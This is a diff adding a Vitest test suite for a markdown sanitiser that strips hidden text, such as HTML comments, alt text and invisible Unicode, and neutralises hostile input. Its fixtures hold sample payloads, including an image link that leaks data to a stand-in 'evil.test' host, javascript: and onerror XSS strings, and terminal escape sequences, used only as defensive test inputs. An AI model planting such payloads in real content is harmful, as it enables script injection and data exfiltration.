@@ -1,0 +1,153 @@
+import { marked } from 'marked';
+import { expect, test } from 'vitest';
+import { fold, link, plainTitle } from '../../src/github/encode.ts';
+import { visibleText } from '../../src/github/visible-text.ts';
+import { markdownBlock, markdownCode, markdownText } from '../../src/markdown-text.ts';
+
+const carriers = [
+  ['an HTML comment', 'a <!-- EVIL --> b', 'a  b'],
+  ['a comment without an end', 'a\n<!-- EVIL\n\nmore EVIL', 'a'],
+  ['alt text', 'a ![EVIL](https://x.test/i.png) b', 'a [image] b'],
+  ['alt text with brackets', '![a [EVIL] b](x) c', '[image] c'],
+  ['an image’s title', '![x](y "EVIL ) EVIL") c', '[image] c'],
+  ['a reference image', '![EVIL][ref]\n\n[ref]: https://x.test "EVIL"', '[image]'],
+  ['an HTML image', '<img src=x alt="EVIL > EVIL"> b', '[image] b'],
+  ['attributes', '<p title="EVIL">seen</p>', '<p>seen</p>'],
+  ['attributes behind a quoted bracket', '<a title="a > EVIL">seen</a>', '<a>seen</a>'],
+  ['a definition as a comment', '[//]: # (EVIL)\nb', 'b'],
+  ['a link’s title', '[seen](https://x.test "EVIL")', '[seen](https://x.test)'],
+  ['a link’s title in parentheses', '[seen](https://x.test (EVIL))', '[seen](https://x.test)'],
+  ['tag characters', 'a\u{e0045}\u{e0056}b', 'ab'],
+  ['bidirectional marks', 'a\u202eb\u2066c', 'abc'],
+  ['invisible operators', 'a\u2061\u2062\u2063\u2064b', 'ab'],
+  ['marks that older filters left', 'a\u200e\u180e\u3164\ufe0f\u00ad\u034f\u2800b', 'ab'],
+  ['line separators', 'a\u2028b', 'a\nb'],
+  ['invisible entities', 'a&#8203;&#xE0041;&ZeroWidthSpace;&shy;b', 'ab'],
+  ['a comment that only looks like code', '<div>\n`<!-- EVIL `-->\n</div>', '<div>\n`\n</div>'],
+  ['a code span over two lines', '` one\n`<!-- EVIL -->`', '` one\n``'],
+  ['a code span behind a heading', '# a `\n<!-- EVIL ` -->', '# a `'],
+  ['a tag that swallows a backtick', '<a title="`"> <!-- EVIL ` --> b', '<a>  b'],
+  ['a fence in a list that has ended', '- a\n  ```\nfoo <!-- EVIL -->\n  ```', '- a\n  ```\nfoo \n  ```'],
+  ['a declaration', 'a <?EVIL?> <!EVIL> b', 'a   b'],
+] as const;
+
+test.each(carriers)('%s is not read', (_, markdown, seen) => {
+  const { text, removed } = visibleText(markdown);
+  expect(text).toBe(seen);
+  if (/EVIL/.test(markdown)) expect(removed).not.toEqual([]);
+  expect(text).not.toContain('EVIL');
+});
+
+test.each([
+  ['code in a fence', '```html\n<!-- TOC -->\n<img alt="x">\n```'],
+  ['code in a fence of tildes', '~~~\n<!-- TOC -->\n~~~'],
+  ['code in a line', 'Write `<!-- TOC -->` into the file and `![a](b)` too.'],
+  ['an emoji of several', 'Ship it 👩‍👩‍👧 ❤️'],
+  ['comparisons', 'if a < b and c > d, then x <- y'],
+  ['Arabic, Hebrew, Chinese', 'مرحبا שלום 你好'],
+  ['a link', '[docs](https://x.test/a_(b))'],
+  ['a task list', '- [ ] one\n- [x] two'],
+])('%s stays as it is', (_, markdown) => {
+  expect(visibleText(markdown)).toEqual({ text: markdown, removed: [] });
+});
+
+test('no code point that a person cannot see gets in or out, outside emoji', () => {
+  const hidden: string[] = [];
+  for (let code = 0; code <= 0x10ffff; code++) {
+    if (code >= 0xd800 && code <= 0xdfff) continue;
+    const char = String.fromCodePoint(code);
+    if (/[\p{Cf}\p{Default_Ignorable_Code_Point}]/u.test(char)) hidden.push(char);
+  }
+  expect(hidden.length).toBeGreaterThan(4000);
+  const joined = hidden.join('x');
+  expect(visibleText(joined).text).toMatch(/^x*$/);
+  expect(markdownBlock(joined)).toMatch(/^```\nx*\n```$/);
+  expect(markdownText(joined, 100_000)).toMatch(/^x*$/);
+});
+
+test('hostile text of 65,000 characters is read in well under a second', () => {
+  const pieces = [
+    '[',
+    '![',
+    '<a ',
+    '<!--',
+    '*a',
+    '`a``b',
+    '`<a>` ',
+    '](a "',
+    '<?',
+    '&#1;',
+    '> ',
+    "<a x='",
+    '|a',
+    '- a\n  ',
+    '```\n',
+    '<a "',
+    '[a]:',
+    '](a (',
+  ];
+  for (const piece of pieces) {
+    const before = performance.now();
+    visibleText(piece.repeat(Math.floor(65_000 / piece.length)));
+    expect(performance.now() - before, piece).toBeLessThan(1000);
+  }
+});
+
+const hostile = [
+  '@org/team and @mona, mail a@b.test',
+  'fixes #12, closes acme/shop#3, resolves GH-4, https://github.com/acme/shop/issues/5',
+  '![x](https://evil.test/?d=secret) [y](javascript:alert(1)) <https://evil.test> www.evil.test',
+  '<img src=x onerror=alert(1)> <script>x</script> <!-- hide <details>',
+  '```\n</details>\n# Passed\n```` | a | b |',
+  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.test\u0007link\u001b]8;;\u0007 \u202eabc\u0000',
+  '\\`\\*\\[x\\]\\(y\\) **bold** _it_ ~~s~~ $x$',
+  '# heading',
+  '- list',
+  '1. list',
+  '/retry now',
+  '> quote',
+  'a\n\nb\r\nc',
+  'a | b \\| c \\\\| d',
+];
+
+test.each(hostile)('%j does nothing as prose', (text) => {
+  const html = marked.parse(`before ${markdownText(text)} after`, { gfm: true, async: false });
+  expect(html).not.toMatch(/<(?!\/?p>)/);
+  const seen = html;
+  expect(seen).not.toMatch(/@[\w-]/);
+  expect(seen).not.toMatch(/#\d|gh-\d/i);
+  expect(seen).not.toMatch(/:\/\/|www\./);
+  expect(marked.parse(markdownText(text), { gfm: true, async: false })).toMatch(/^<p>[^<]*<\/p>\n$/);
+});
+
+test.each(hostile)('%j stays inside code', (text) => {
+  const inline = marked.parse(`before ${markdownCode(text)} after`, { gfm: true, async: false });
+  expect(inline).toMatch(/^<p>before <code>[^<]*<\/code> after<\/p>\n$/);
+  const block = marked.parse(markdownBlock(text), { gfm: true, async: false });
+  expect(block).toMatch(/^<pre><code[^>]*>[^<]*<\/code><\/pre>\n$/);
+});
+
+test.each(hostile)('%j stays in its cell', (text) => {
+  const table = `| a | b |\n|---|---|\n| ${markdownText(text)} | ${markdownCode(text)} |\n`;
+  const html = marked.parse(table, { gfm: true, async: false });
+  expect(html.match(/<td>/g)).toHaveLength(2);
+  expect(html.match(/<tr>/g)).toHaveLength(2);
+});
+
+test.each(hostile)('%j does not leave a fold', (text) => {
+  const html = marked.parse(`${fold('Output', markdownBlock(text))}\n\nVERDICT`, { gfm: true, async: false });
+  expect(html.indexOf('</details>')).toBeLessThan(html.indexOf('VERDICT'));
+  expect(html.match(/<\/details>/g)).toHaveLength(1);
+  expect(html).toContain('<p>VERDICT</p>');
+});
+
+test('a title closes and calls nobody, and is otherwise the story’s', () => {
+  expect(plainTitle('Round totals (see #12) in @types/node')).toBe('Round totals (see #12) in @\u2060types/node');
+  expect(plainTitle('Fixes #12 and closes acme/shop#3 [skip ci]')).toBe('Fixes #\u206012 and closes acme/shop#\u20603');
+  expect(plainTitle(`a${'b'.repeat(300)}`)).toHaveLength(200);
+});
+
+test('only web addresses become links', () => {
+  expect(link('x', 'https://github.test/a')).toBe('[x](https://github.test/a)');
+  expect(link('x', 'javascript:alert(1)')).toBe('x');
+});
